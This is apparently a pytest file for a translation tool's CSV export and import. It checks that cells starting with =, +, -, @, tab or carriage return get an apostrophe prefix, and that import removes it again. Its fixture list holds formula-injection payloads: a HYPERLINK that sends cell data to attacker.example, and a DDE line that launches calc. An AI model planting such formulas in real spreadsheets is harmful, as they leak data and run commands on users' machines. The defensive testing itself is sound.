"""CSV formula injection (issue 14, D8): `translations export --format csv` (CLI and HTTP) writes no cell that a
spreadsheet would run as a formula (OWASP: a leading =, +, -, @, tab or carriage return gets an apostrophe), and
the import takes exactly that apostrophe off again, so an export imported unchanged changes nothing."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine
from typer.testing import CliRunner

from api.app import create_app
from api.cli import app as cli
from models import IngestRejectedError, ingest_file, session_scope
from tests.api_helpers import DictionaryEngine, make_keys, make_services
from translation import export_units, get_unit, import_units, list_units, run_translation_job
from translation.exchange import FORMULA_STARTS, neutralise_cell, restore_cell

HOSTILE_NAMES = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3 rule",
    "@SUM(1+1)",
    "-- minus signs",
    "-=minus equals",
    "'=already quoted",
    "''two apostrophes",
    "'plain apostrophe",
    "Plain course",
]
# Drafts start with every dangerous character too, tab and carriage return among them (names lose them: ingest
# strips surrounding whitespace).
STARTS = ["=", "+", "-", "@", "\t", "\r", "'=", "''", "'", ""]
DRAFTS = {name: f"{start}अनुवाद {n}" for n, (name, start) in enumerate(zip(HOSTILE_NAMES, STARTS, strict=True))}


def spreadsheet_safe(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS, f"a spreadsheet would run {cell!r}"
    return rows


@given(st.text())
def test_neutralising_is_undone_exactly(text: str):
    written = neutralise_cell(text)
    assert written[:1] not in FORMULA_STARTS
    assert restore_cell(written) == text


def test_cells_a_translator_typed_are_left_alone():
    assert restore_cell("'plain") == "'plain" and restore_cell("plain") == "plain"
    assert neutralise_cell("'plain") == "'plain" and neutralise_cell("=x") == "'=x"


@pytest.fixture
def hostile(small_kcm_engine: Engine, tmp_path: Path) -> Engine:
    lines = "".join(
        json.dumps({"identifier": f"do_h{position}", "name": name}) + "\n"
        for position, name in enumerate(HOSTILE_NAMES)
    )
    (tmp_path / "hostile.jsonl").write_text(lines, encoding="utf-8")
    ingest_file(small_kcm_engine, "courses", tmp_path / "hostile.jsonl")
    run_translation_job(small_kcm_engine, ["hi"], ["name"], mt=DictionaryEngine(DRAFTS))
    return small_kcm_engine


def test_the_export_is_safe_and_an_unchanged_import_changes_nothing(hostile: Engine):
    with session_scope(hostile) as session:
        exported = export_units(session, "hi", "csv")
        before = {unit.course_id: (unit.source_text, unit.text, unit.status) for unit in list_units(session, "hi")}
    rows = spreadsheet_safe(exported)
    assert rows[0] == ["key", "language", "status", "source", "target", "flags"]
    assert '\'=HYPERLINK("http://attacker.example/?x="&A1,"Click")' in [row[3] for row in rows]
    with session_scope(hostile) as session:
        report = import_units(session, exported, "csv", "units.hi.csv", reviewer="asha")
        after = {unit.course_id: (unit.source_text, unit.text, unit.status) for unit in list_units(session, "hi")}
    assert (report.edited, report.approved, report.unchanged) == (0, 0, len(HOSTILE_NAMES))
    assert after == before
    assert {source for source, _, _ in after.values()} == set(HOSTILE_NAMES)


def test_a_target_a_translator_wrote_after_the_apostrophe_arrives_as_written(hostile: Engine):
    with session_scope(hostile) as session:
        rows = list(csv.reader(io.StringIO(export_units(session, "hi", "csv").decode())))
    header, body = rows[0], rows[1:]
    target = header.index("target")
    body[0][target] = "'=SUM(A1:A2) का अनुवाद"  # as a spreadsheet saves a cell typed as text
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, body[0]])
    with session_scope(hostile) as session:
        report = import_units(session, buffer.getvalue().encode(), "csv", "units.hi.csv", reviewer="asha")
        key = body[0][header.index("key")]
        (unit,) = [u for u in list_units(session, "hi") if f"{u.course_id}|{u.field}" == restore_cell(key)]
        assert report.edited == 1 and get_unit(session, unit.id).text == "=SUM(A1:A2) का अनुवाद"


def test_export_over_http_and_the_command_line_is_safe(
    hostile: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    keys = make_keys(hostile)
    with TestClient(create_app(services=make_services(hostile, tmp_path))) as client:
        response = client.get(
            "/v1/translation/export", params={"language": "hi", "format": "csv"}, headers=keys.header("reviewer")
        )
    assert response.status_code == 200
    assert len(spreadsheet_safe(response.content)) == len(HOSTILE_NAMES) + 1

    monkeypatch.setenv("DATABASE_URL", hostile.url.render_as_string(hide_password=False))
    out = tmp_path / "units.hi.csv"
    result = CliRunner().invoke(cli, ["translations", "export", "--lang", "hi", "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert out.read_bytes() == response.content
    imported = CliRunner().invoke(cli, ["translations", "import", str(out), "--reviewer", "asha", "--json"])
    assert imported.exit_code == 0, imported.output
    assert json.loads(imported.stdout)["unchanged"] == len(HOSTILE_NAMES)


def test_the_import_checks_the_csv_header(small_kcm_engine: Engine):
    with session_scope(small_kcm_engine) as session, pytest.raises(IngestRejectedError) as rejected:
        import_units(session, b"key,language,source,target,lang\n", "csv", "u.csv", reviewer="asha")
    assert str(rejected.value.problems[0]).startswith("u.csv:1: header.lang: unknown column 'lang'")
